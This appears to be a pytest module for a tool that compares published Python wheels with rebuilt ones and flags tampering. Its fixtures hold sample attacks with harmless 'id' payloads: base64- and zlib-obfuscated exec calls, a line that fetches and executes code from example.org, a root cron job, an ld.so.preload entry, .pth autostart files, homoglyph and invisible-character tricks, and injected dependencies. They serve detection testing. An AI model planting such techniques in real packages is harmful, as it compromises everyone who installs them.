"""Dangerous patterns: several tampered wheels for each, and honest neighbours that are not one.

A neighbour is never trusted either: it differs. It must only not be called dangerous.
"""

import base64
import io
import marshal
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.support.wheels import (
    DIST_INFO,
    Entry,
    changed,
    entries,
    honest_files,
    pack,
    with_record,
    write,
)
from verify.compare.engine import compare
from verify.finding import Finding, FindingClass
from verify.results import Diff
from verify.verdict import Verdict

CORE = "example/core.py"
DATA = "example-1.0.data"
METADATA = f"{DIST_INFO}/METADATA"
ENTRY_POINTS = f"{DIST_INFO}/entry_points.txt"
HONEST = with_record(honest_files())
SHELL = b"#!/bin/sh\nid\n"
ELF = b"\x7fELF\2\1\1" + b"\0" * 57
PACKED = base64.b64encode(zlib.compress(b"import os\nos.system('id')\n"))
SELECTORS = "".join(chr(0xE0100 + byte) for byte in b"import os; os.system('id')")

Files = dict[str, bytes]


def _zip(names: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return file.getvalue()


def _core(*lines: str | bytes) -> Files:
    """The core module with lines added."""
    added = [line.encode() if isinstance(line, str) else line for line in lines]
    return {CORE: HONEST[CORE] + b"".join(line + b"\n" for line in added)}


def _fields(*lines: str) -> Files:
    """METADATA with fields added behind the requirement."""
    whole = "".join(f"{line}\n" for line in lines).encode()
    old = b"Requires-Dist: other>=1\n"
    return {METADATA: HONEST[METADATA].replace(old, old + whole)}


def _data(path: str, content: bytes = b"x\n") -> Files:
    return {f"{DATA}/data/{path}": content}


TAMPERED: dict[str, dict[str, Files]] = {
    "code.autostart": {
        "start-file": {"x.start": b"example.core:answer\n"},
        "start-file-in-a-scheme": {f"{DATA}/purelib/x.start": b"example.core:answer\n"},
        "start-file-below-a-prefix": _data("Python311/site-packages/x.start"),
        "imported-by-a-hook-of-virtual-environments": {"_virtualenv.py": b"x = 1\n"},
        "imported-by-a-hook-of-build-tools": {"_distutils_hack/__init__.py": b"x = 1\n"},
    },
    "data.system-place": {
        "program": _data("bin/ls", SHELL),
        "program-of-the-administrator": _data("sbin/fsck", SHELL),
        "program-on-windows": _data("Scripts/pip.bat"),
        "local-program": _data("local/bin/ls", SHELL),
        "scheduled-job": _data("etc/cron.d/x", b"* * * * * root id\n"),
        "service": _data("share/systemd/user/x.service"),
        "service-of-the-system": _data("lib/systemd/system/x.service"),
        "launch-agent": _data("Library/LaunchAgents/x.plist"),
        "bus-service": _data("share/dbus-1/services/x.service"),
        "profile": _data("etc/profile.d/x.sh", SHELL),
        "completion": _data("share/bash-completion/completions/git"),
        "completion-of-another-shell": _data("share/fish/vendor_conf.d/x.fish"),
        "desktop-entry": _data("share/applications/x.desktop"),
        "start-menu": _data("Microsoft/Windows/Start Menu/Programs/Startup/x.lnk"),
        "loader-configuration": _data("etc/ld.so.preload", b"/tmp/x.so\n"),
        "configuration-of-servers": _data("etc/server_config.d/x.json"),
        "environment-configuration": _data("pyvenv.cfg", b"home = /tmp\n"),
        "path-configuration": _data("python311._pth", b"/tmp\n"),
        "standard-library": _data("lib/python3.11/os.py"),
        "standard-library-on-windows": _data("Lib/os.py"),
        "capitals": _data("ETC/Cron.D/x"),
    },
    "code.hidden-payload": {
        "decoded": _core(f"import base64; exec(base64.b64decode({PACKED!r}))"),
        "decompressed": _core(f"exec(__import__('zlib').decompress({PACKED!r}))"),
        "nested": _core(f"eval(compile(__import__('base64').b64decode({PACKED!r}), '', 'exec'))"),
        "unmarshalled": _core(f"import marshal; exec(marshal.loads({marshal.dumps(1)!r}))"),
        "characters": _core("exec(''.join(chr(c) for c in [105, 100]))"),
        "downloaded": _core("exec(urllib.request.urlopen('https://example.org').read())"),
        "hexadecimal": _core("exec (bytes.fromhex('6964'))"),
        "over-lines": _core("exec(", "    base64.b64decode(", f"        {PACKED!r}", "    )", ")"),
        "by-way-of-builtins": _core(f"__builtins__.exec(base64.b64decode({PACKED!r}))"),
        "imported-on-the-spot": _core("__import__('os').system('id')"),
        "process-on-the-spot": _core('x = __import__("subprocess").Popen(["id"])'),
        "off-the-screen": _core("x = 1" + " " * 200 + ";import os"),
        "behind-a-semicolon": _core("x = 1;" + "\t" * 120 + "import os"),
        "long-line": _core(f"x = '{'A' * 5000}'; exec(x)"),
        "in-a-new-module": {"example/x.py": b"exec(base64.b64decode(b''))\n"},
        "behind-a-mebibyte": _core(b"# " + b"x" * 2_000_000, "exec(base64.b64decode(b''))"),
        "behind-other-line-ends": {
            CORE: HONEST[CORE].replace(b"\n", b"\r") + b"exec(base64.b64decode(b''))\r"
        },
    },
    "code.invisible-characters": {
        "payload-of-selectors": _core(f'x = "{SELECTORS}"'),
        "payload-of-tags": _core("x = '" + "".join(chr(0xE0020 + at) for at in range(64)) + "'"),
        "payload-of-zero-width-bits": _core("x = '" + "\u200b\u200c" * 40 + "'"),
        "payload-of-fillers": _core("x = '" + "\u3164\uffa0" * 40 + "'"),
        "one-beside-each-character": _core("x = '" + "".join(f"a{each}" for each in SELECTORS * 2)),
        "in-a-comment": _core(f"# {SELECTORS}"),
        "behind-a-mebibyte": _core(b"# " + b"x" * 2_000_000, f"# {SELECTORS}"),
        "across-two-windows": _core(b"# " + b"x" * 262_080, f"# {SELECTORS}"),
        "name-with-a-selector": _core("x\ufe0f = 1"),
        "name-that-is-a-filler": _core("\u3164 = 1"),
        "joined-name": _core("x\u034fy = 1"),
        "in-a-new-module": {"example/x.py": f'"""{SELECTORS}"""'.encode()},
    },
    "code.bidirectional-text": {
        "behind-a-mebibyte": _core(b"# " + b"x" * 2_000_000, "# \u202e }"),
    },
    "code.deceptive-identifier": {
        "cyrillic": _core("def \u0430nswer(): return 1"),
        "all-cyrillic": _core("\u0435\u0445\u0435\u0441 = exec"),
        "short": _core("import \u043es"),
        "greek": _core("\u03b1nsw\u03b5r = 1", "\u03bfpen = 1"),
        "mathematical": _core("\U0001d4ee\U0001d4ed\U0001d4ea\U0001d4f5('1')"),
        "full-width": _core("\uff45\uff58\uff45\uff43('1')"),
        "ligature": _core("of\ufb01ce = 1"),
        "in-a-new-module": {"example/x.py": "pr\u0456nt = id\n".encode()},
        "beside-a-string": _core("x = '#'; \u0430nswer = 1"),
    },
    "code.shadows-module": {
        "package": {"example/core/__init__.py": b"def answer(): return 1\n"},
        "compiled-package": {"example/core/__init__.pyc": b"\xa7\r\r\n"},
        "extension": {"example/core.so": ELF},
        "tagged-extension": {"example/core.cpython-311-x86_64-linux-gnu.so": ELF},
        "extension-on-windows": {"example/core.cp311-win_amd64.pyd": b"MZ"},
        "in-a-scheme": {f"{DATA}/platlib/example/core.abi3.so": ELF},
    },
    "code.shadows-library": {
        "module": {"json.py": b"x = 1\n"},
        "package": {"logging/__init__.py": b"x = 1\n"},
        "part-of-a-package": {"xml/etree.py": b"x = 1\n"},
        "module-of-the-past": {"imp.py": b"x = 1\n"},
        "extension": {"ssl.abi3.so": ELF},
        "in-a-scheme": {f"{DATA}/purelib/socket.py": b"x = 1\n"},
    },
    "code.import-path": {
        "absolute": {"x.pth": b"/tmp\n"},
        "behind-a-mark": {"x.pth": b"\xef\xbb\xbf/tmp\n"},
        "drive": {"x.pth": b"./a\nC:\\Temp\n"},
        "share": {"x.pth": b"\\\\host\\share\n"},
        "parent": {"x.pth": b"example/../../../tmp\n"},
        "behind-a-form-feed": {"x.pth": b"a\x0c/tmp\n"},
        "of-an-installer": {"easy-install.pth": b"./a\n"},
        "of-an-editable-installation": {"__editable__.example-1.0.pth": b"a\n"},
        "egg-link": {"example.egg-link": b"/tmp/x\n.\n"},
        "in-a-scheme": {f"{DATA}/purelib/x.pth": b"/tmp\n"},
    },
    "code.nested-archive": {
        "egg": {"example/x.egg": _zip({"EGG-INFO/PKG-INFO": b"x"})},
        "wheel": {"example/x-1.0-py3-none-any.whl": b"x"},
        "zipped-program": {"example/x.pyz": b"#!/usr/bin/env python3\n" + _zip({"a": b""})},
        "source-in-an-archive-of-data": {"example/data.zip": _zip({"a.txt": b"", "b.py": b""})},
        "bytecode-by-another-name": {"example/logo.png": _zip({"a.pyc": b""})},
        "behind-a-picture": {"example/logo.png": b"\x89PNG" * 99 + _zip({"__main__.py": b""})},
        "extension": {"example/x.dat": _zip({"x/y.so": b""})},
        "far-into-the-file": {"example/x.dat": b"\1" * 2_000_000 + _zip({"x.py": b""})},
    },
    "scripts.elsewhere": {
        "shell": {"example/run.sh": b"id\n"},
        "batch": {"example/run.BAT": b"dir\n"},
        "powershell": {"example/run.ps1": b"ls\n"},
        "visual-basic": {"example/run.vbs": b"x\n"},
        "shell-by-its-first-line": {"example/run": SHELL},
        "shell-by-way-of-env": {"example/run.txt": b"#! /usr/bin/env bash\nid\n"},
        "text-that-became-a-program": {"example/data.txt": SHELL},
    },
    "entry-points.hidden": {
        "egg-info": {"x.egg-info/entry_points.txt": b"[a]\nb = c\n"},
        "egg-info-in-a-scheme": {f"{DATA}/purelib/x.egg-info/entry_points.txt": b"[a]\nb = c\n"},
        "other-project-in-a-scheme": {f"{DATA}/purelib/x-1.0.dist-info/METADATA": b"Name: x\n"},
        "own-by-way-of-a-scheme": {f"{DATA}/platlib/{DIST_INFO}/plugins.txt": b"[a]\nb = c\n"},
        "below-the-prefix": _data("lib/python3.11/site-packages/x-1.dist-info/entry_points.txt"),
    },
    "metadata.dependency-added": {
        "plain": _fields("Requires-Dist: evil"),
        "other-case-of-the-field": _fields("requires-dist: evil"),
        "version": _fields("Requires-Dist: evil (>=1.0)"),
        "marker": _fields('Requires-Dist: evil; python_version >= "3"'),
        "marker-that-only-mentions-an-extra": _fields(
            'Requires-Dist: evil; extra == "x" or python_version >= "3"'
        ),
        "address": _fields("Requires-Dist: evil @ https://example.org/evil.whl"),
        "address-of-a-known-project": _fields("Requires-Dist: other @ https://example.org/x.whl"),
        "address-in-an-extra": _fields(
            'Requires-Dist: other @ https://example.org/x.whl ; extra == "x"'
        ),
        "what-packaging-does-not-parse": _fields("Requires-Dist: evil >>> 1"),
        "similar-name": _fields("Requires-Dist: others"),
    },
    "metadata.deceptive-characters": {
        "look-alike": _fields("Requires-Dist: \u043ether"),
        "invisible": _fields("Requires-Dist: other\u200b>=1"),
        "in-a-marker": _fields("Requires-Dist: other; os_name == '\u202ex'"),
        "in-an-extra": _fields("Provides-Extra: f\u0430st"),
        "in-a-python-version": _fields("Requires-Python: \u2265 3.8"),
    },
}
"""By the rule that has to find them."""

EMOJI = (
    "\u2764\ufe0f\u200d\U0001f525 "
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
)
"""A burning heart and the flag of England: the longest honest runs of invisible characters."""

GREEK = "\u03bd_max = v_max = max\n\u0394t = \u03c3 = o = dt = 1\n\u03baT = kT = 1\n"
OTHER_SCRIPTS = "\u043f\u0440\u0438\u0432\u0435\u0442 = \u5909\u6570 = na\u00efve = 1\n"

NEIGHBOURS: dict[str, Files] = {
    # Start-up and places.
    "start-in-a-package": {"example/x.start": b"x\n"},
    "path-file-with-a-directory": {"example.pth": b"./vendored\n# ../x\n"},
    "man-page": _data("share/man/man1/example.1"),
    "data": _data("share/example/etc/x.conf"),
    "kernel-of-a-notebook": _data("share/jupyter/kernels/x/kernel.json"),
    "library-of-a-package": _data("lib/python3.11/site-packages/example/x.py", b"x = 1\n"),
    "header": {f"{DATA}/headers/x.h": b"#define x y\n"},
    # Code.
    "plain-module": {"example/appengine.py": b"import socket\nimport subprocess\n"},
    "module-with-a-first-line": {"example/tool.py": b"#!/usr/bin/env python\nprint(1)\n"},
    "module-that-runs-code": {"example/x.py": b"exec(code, namespace)\nx = zlib.decompress(y)\n"},
    "module-that-decodes": {"example/x.py": b"x = base64.b64decode(y)\n"},
    "method-named-exec": {"example/x.py": b"dialog.exec(base64.b64decode(x))\n"},
    "namespace-package": {
        "example/x.py": b"__import__('pkg_resources').declare_namespace(__name__)\n"
    },
    "long-line-of-data": {"example/x.py": b"TABLE = '" + b"A" * 20_000 + b"'\n"},
    "aligned-comment": {"example/x.py": b"x = 1;" + b" " * 150 + b"# why\n"},
    "code-differs": _core("x = 1"),
    "own-test-module": {"test/test_core.py": b"x = 1\n", "tests/conftest.py": b"x = 1\n"},
    "module-named-like-one-below": {"example/json.py": b"x = 1\n"},
    "module-beside-its-package": {"example.py": b"x = 1\n"},
    "stubs": {"example/core.pyi": b"def answer() -> int: ...\n", "example/core.c": b"x\n"},
    # Text.
    "emoji": {"example/x.py": f"x = '{EMOJI}'\n".encode()},
    "persian": {
        "example/x.py": "x = '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645'\n".encode()
    },
    "greek-symbols": {"example/x.py": GREEK.encode()},
    "names-in-another-script": {"example/x.py": OTHER_SCRIPTS.encode()},
    "full-width-text": {
        "example/x.py": "# \uff45\uff58\uff45\uff43\nx = '\uff45\uff58'\n".encode()
    },
    "cyrillic-text": {"example/x.py": "# \u0441\u043e\u0440\nx = '\u043es'\n".encode()},
    "emoji-in-the-description": {METADATA: HONEST[METADATA] + f"{EMOJI}\n".encode()},
    "author-with-an-accent": _fields("Author: Ren\u00e9"),
    # Archives and programs.
    "archive-of-data": {"example/x.zip": _zip({"a.csv": b"1,2\n"})},
    "document": {"example/x.docx": _zip({"word/document.xml": b"<x/>"})},
    "text-with-a-first-line": {"example/x.txt": b"#!not a program\n"},
    "text-that-names-a-shell": {"example/x.md": b"    #!/bin/sh\n"},
    "egg-info": {"example.egg-info/PKG-INFO": b"Name: example\n"},
    # Dependencies.
    "requirement-changed": {METADATA: HONEST[METADATA].replace(b"other>=1", b"other (>=2)")},
    "requirement-marked": {
        METADATA: HONEST[METADATA].replace(b"other>=1", b'other>=1; os_name == "nt"')
    },
    "requirement-of-an-extra": _fields("Provides-Extra: x", 'Requires-Dist: more; extra == "x"'),
    "requirement-of-an-extra-and-a-version": _fields(
        'Requires-Dist: more; python_version < "3" and extra == "x"'
    ),
    "requirement-gone": {
        METADATA: HONEST[METADATA].replace(b"Requires-Dist: other>=1\n", b"License: x\n")
    },
    "other-spelling-of-a-name": {METADATA: HONEST[METADATA].replace(b"other>=1", b"Other >=1")},
}


def _compare(tmp_path: Path, published: bytes, rebuilt: bytes) -> Diff:
    return compare(write(tmp_path / "p", published), write(tmp_path / "r", rebuilt))


def _tampered(tmp_path: Path, files: Files, base: Files | None = None) -> Diff:
    published = pack(entries(with_record(honest_files({**(base or {}), **files}))))
    return _compare(tmp_path, published, pack(entries(with_record(honest_files(base)))))


def _found(diff: Diff, rule: str) -> Finding:
    return next(finding for finding in diff.findings if finding.rule == rule)


def _dangerous(diff: Diff) -> set[str]:
    return {finding.rule for finding in diff.findings if finding.kind is FindingClass.DANGEROUS}


@pytest.mark.parametrize(
    ("rule", "technique"),
    [(rule, technique) for rule, techniques in TAMPERED.items() for technique in techniques],
)
def test_a_dangerous_pattern_is_suspicious(rule: str, technique: str, tmp_path: Path) -> None:
    diff = _tampered(tmp_path, TAMPERED[rule][technique])
    assert rule in _dangerous(diff)
    assert diff.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("neighbour", NEIGHBOURS)
def test_an_honest_neighbour_is_not_dangerous(neighbour: str, tmp_path: Path) -> None:
    diff = _tampered(tmp_path, NEIGHBOURS[neighbour])
    assert _dangerous(diff) == set()
    assert diff.verdict in {Verdict.DIFFERENT, Verdict.EQUIVALENT}


@pytest.mark.parametrize(
    ("rule", "technique"),
    [(rule, technique) for rule, techniques in TAMPERED.items() for technique in techniques],
)
def test_what_the_source_builds_to_is_not_dangerous(
    rule: str, technique: str, tmp_path: Path
) -> None:
    """The same members on both sides; only the day of one tells the archives apart."""
    files = with_record(honest_files(TAMPERED[rule][technique]))
    later = changed("example/data.txt", {"date": 0x5822}, entries(files))
    assert rule not in _dangerous(_compare(tmp_path, pack(later), pack(entries(files))))


IN_THE_SOURCE: dict[str, tuple[Files, Files]] = {
    # What the rebuild has already does not make another change dangerous.
    "code.hidden-payload": (
        _core("exec(base64.b64decode(b''))"),
        _core("x = 1", "exec(base64.b64decode(b''))"),
    ),
    "code.invisible-characters": (
        _core(f"# {SELECTORS}", "x\ufe0f = 1"),
        _core("x = 1", "x\ufe0f = 1", f"# {SELECTORS}"),
    ),
    "code.bidirectional-text": (_core("# \u202e"), _core("x = 1", "# \u202e")),
    "code.deceptive-identifier": (
        _core("\u043e\u0440\u0435n = 1"),
        _core("x = 1", "\u043e\u0440\u0435n = 1"),
    ),
    "code.shadows-library": ({"json/a.py": b"x = 1\n"}, {"json/b.py": b"x = 1\n"}),
    "code.nested-archive": (
        {"example/x.zip": _zip({"a.py": b"1"})},
        {"example/x.zip": _zip({"a.py": b"2"})},
    ),
    "scripts.elsewhere": ({"example/x.sh": b"1\n"}, {"example/x.sh": b"2\n"}),
    "metadata.dependency-added": (
        _fields(
            'Requires-Dist: more; extra == "x"', "Requires-Dist: a @ https://example.org/a.whl"
        ),
        _fields("Requires-Dist: More>=1", "Requires-Dist: a @ https://example.org/a.whl"),
    ),
    "metadata.deceptive-characters": (
        _fields("Provides-Extra: f\u0430st"),
        _fields("Provides-Extra: f\u0430st", "License: x"),
    ),
}


@pytest.mark.parametrize("rule", IN_THE_SOURCE)
def test_what_the_rebuild_has_too_is_not_dangerous(rule: str, tmp_path: Path) -> None:
    rebuilt, published = IN_THE_SOURCE[rule]
    assert rule not in _dangerous(_tampered(tmp_path, published, rebuilt))
    assert rule in _dangerous(_tampered(tmp_path, published)) | _dangerous(
        _tampered(tmp_path / "again", rebuilt)
    )


def test_a_program_by_its_mode_is_found(tmp_path: Path) -> None:
    files = with_record(honest_files({"example/run": b"#!/usr/bin/perl\nid\n"}))
    plain = _compare(tmp_path / "a", pack(entries(files)), pack(entries()))
    executable = changed("example/run", {"mode": 0o100755}, entries(files))
    tampered = _compare(tmp_path / "b", pack(executable), pack(entries()))
    assert _dangerous(plain) == set()
    assert _dangerous(tampered) == {"scripts.elsewhere"}
    evidence = _found(tampered, "scripts.elsewhere").evidence
    assert (evidence["mode"], evidence["first_lines"]) == ("0o100755", ["#!/usr/bin/perl", "id"])


def test_a_module_that_may_be_executed_is_only_a_module(tmp_path: Path) -> None:
    files = with_record(honest_files({"example/tool.py": b"#!/usr/bin/env python\nprint(1)\n"}))
    executable = changed("example/tool.py", {"mode": 0o100755}, entries(files))
    assert _dangerous(_compare(tmp_path, pack(executable), pack(entries()))) == set()


def test_a_module_that_replaces_a_native_one_is_found(tmp_path: Path) -> None:
    native: Files = {"example/_speed.cpython-311-x86_64-linux-gnu.so": ELF}
    diff = _tampered(tmp_path, {"example/_speed/__init__.py": b"x = 1\n"}, native)
    (shadowed,) = native
    assert _found(diff, "code.shadows-module").evidence["shadows"] == [shadowed]


def test_source_beside_a_native_module_of_its_name_changes_nothing_that_runs(
    tmp_path: Path,
) -> None:
    native: Files = {"example/_speed.abi3.so": ELF}
    assert _dangerous(_tampered(tmp_path, {"example/_speed.py": b"x = 1\n"}, native)) == set()


def test_a_module_that_became_a_package_shadows_nothing(tmp_path: Path) -> None:
    files = honest_files({"example/core/__init__.py": HONEST[CORE]})
    del files[CORE]
    diff = _compare(tmp_path, pack(entries(with_record(files))), pack(entries()))
    assert _dangerous(diff) == set()


def test_many_members_that_differ_make_a_short_report(tmp_path: Path) -> None:
    ours = [Entry(name=f"example/m{at}.py", data=b"x = %d\n" % at) for at in range(2_000)]
    theirs = [Entry(name=f"example/m{at}.py", data=b"x = 0\n") for at in range(2_000)]
    ours[1234] = Entry(name="example/m1234.py", data=b"import socket, ctypes, base64\n")
    diff = _compare(tmp_path, pack([*entries(), *ours]), pack([*entries(), *theirs]))
    told = [finding for finding in diff.findings if finding.rule == "code.differs"]
    assert len(told) == 101
    # The one that reaches for most is told first, the count of the others last.
    assert told[0].member == "example/m1234.py"
    assert told[0].evidence["touches"] == ["network", "decoding", "native-code"]
    assert (told[-1].member, told[-1].evidence) == (None, {"count": 1_899})


def test_more_explained_members_than_are_told_are_all_explained(tmp_path: Path) -> None:
    ours = {f"example/m{at}.py": b"x = %d\r\ny = 1\r\n" % at for at in range(300)}
    theirs = {name: data.replace(b"\r", b"") for name, data in ours.items()}
    published = pack(entries(with_record(honest_files(ours))))
    diff = _compare(tmp_path, published, pack(entries(with_record(honest_files(theirs)))))
    assert diff.verdict is Verdict.EQUIVALENT
    assert diff.accounting.unexplained_bytes == 0
    assert len(diff.findings) < 150
